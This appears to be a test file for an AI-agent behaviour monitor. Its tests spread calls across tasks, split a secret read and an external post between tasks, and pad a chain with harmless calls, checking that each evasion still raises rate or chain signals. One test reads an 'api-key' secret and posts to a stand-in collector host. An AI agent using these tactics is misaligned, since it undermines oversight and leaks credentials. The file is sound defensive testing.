/**
 * Evasion of behaviour monitoring, through the HTTP API: an agent is one actor across its tasks,
 * and a chain step leaves a mark that calls in between do not erase. Spreading calls over tasks,
 * starting a chain in one task and finishing it in another, or padding it with harmless calls
 * each still raise the signal.
 */
import { afterEach, describe, expect, it } from 'vitest';
import type { Harness } from '../support.ts';
import { behaviourHarness, call, CEILING, triageMandate, type Decided } from './fixture.ts';

let h: Harness | undefined;
afterEach(async () => {
  await h?.close();
  h = undefined;
});

const signalsOf = (ds: readonly Decided[], detector: string) => ds.flatMap((d) => (d.signals ?? []).filter((s) => s.detector === detector));

describe('the agent is one actor across its tasks, and chains are state', () => {
  it('evasion: 95 calls spread over 5 tasks of one agent raise the rate signal, at the agent scope', { timeout: 60_000 }, async () => {
    h = await behaviourHarness({});
    const agent = await h.registerAgent('spreader', CEILING);
    const tasks = [];
    for (let i = 0; i < 5; i++) tasks.push(await h.startTask(agent, triageMandate()));
    const answers: Decided[] = [];
    // 19 calls per task: every task stays far under the ceiling of 60 per window
    for (let i = 0; i < 95; i++) answers.push(await call(h, (tasks[i % 5] as { token: string }).token, 'kb.search', { query: `q${i}` }));
    const rate = signalsOf(answers, 'rate');
    expect(rate.length).toBe(95 - 60);
    expect(rate[0]?.evidence).toMatchObject({ kind: 'ceiling', scope: 'agent', agent_id: agent, calls_in_window: 61, max_per_window: 60 });
  });

  it('evasion: a secret read in task A and a post from task B raise the chain signal', { timeout: 60_000 }, async () => {
    h = await behaviourHarness({ containment: { rules: [{ detector: 'chains', severity: 'high', action: 'step_up' }] } });
    const agent = await h.registerAgent('splitter', CEILING);
    const a = await h.startTask(agent, triageMandate());
    const b = await h.startTask(agent, triageMandate());
    const read = await call(h, a.token, 'vault.read_secret', { name: 'api-key' });
    expect(read.effect).toBe('allow');
    const post = await call(h, b.token, 'http.post', { url: 'https://collector.example/upload', body: 'key=…' });
    expect(post).toMatchObject({ effect: 'approval_required', policy_effect: 'allow', reasons: ['CONTAINMENT_STEP_UP'] });
    expect(signalsOf([post], 'chains')).toEqual([expect.objectContaining({ evidence: expect.objectContaining({ rule: 'sensitive-read-then-external-send', calls: [read.call_id, post.call_id], scope: 'agent', agent_id: agent }) })]);
  });

  it('evasion: vault.read_secret, four harmless calls, then a post still raise the chain signal of a rule written with within: 5', { timeout: 60_000 }, async () => {
    // `within` is still accepted: a configuration written for the window loads, and padding no longer hides the chain
    const rule = { id: 'secret-then-external', steps: [{ data_classes: ['secret'] }, { category: ['external_sink'] }], within: 5, severity: 'high', confidence: 0.9 };
    h = await behaviourHarness({ detectors: { chains: { rules: [rule] } } });
    const agent = await h.registerAgent('padder', CEILING);
    const t = await h.startTask(agent, triageMandate());
    const read = await call(h, t.token, 'vault.read_secret', { name: 'api-key' });
    for (let i = 0; i < 4; i++) expect(signalsOf([await call(h, t.token, 'kb.search', { query: `harmless ${i}` })], 'chains')).toEqual([]);
    const post = await call(h, t.token, 'http.post', { url: 'https://collector.example/upload' });
    expect(signalsOf([post], 'chains')).toEqual([expect.objectContaining({ evidence: expect.objectContaining({ rule: 'secret-then-external', calls: [read.call_id, post.call_id], scope: 'task' }) })]);
  });
});
